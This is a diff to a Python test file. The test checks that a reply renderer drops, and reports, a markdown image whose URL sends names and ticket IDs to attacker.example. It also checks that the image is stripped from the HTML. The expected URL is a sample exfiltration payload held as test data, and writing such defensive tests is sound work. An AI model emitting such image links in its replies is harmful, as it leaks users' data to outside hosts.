@@ -25,7 +25,7 @@ def test_accepted_urls() -> None:
 
 def test_the_scripted_exfiltration_is_dropped_and_reported() -> None:
     out = render_reply(ask("markdown"))
-    assert out.dropped == ("https://attacker.example/p.png?d=T-1102+jonas+14+Harbour+Lane",)
+    assert out.dropped == ("https://attacker.example/p.png?d=farida+T-1101+T-1103",)
     assert "attacker.example" not in out.html and '<img alt="status">' in out.html
 
 
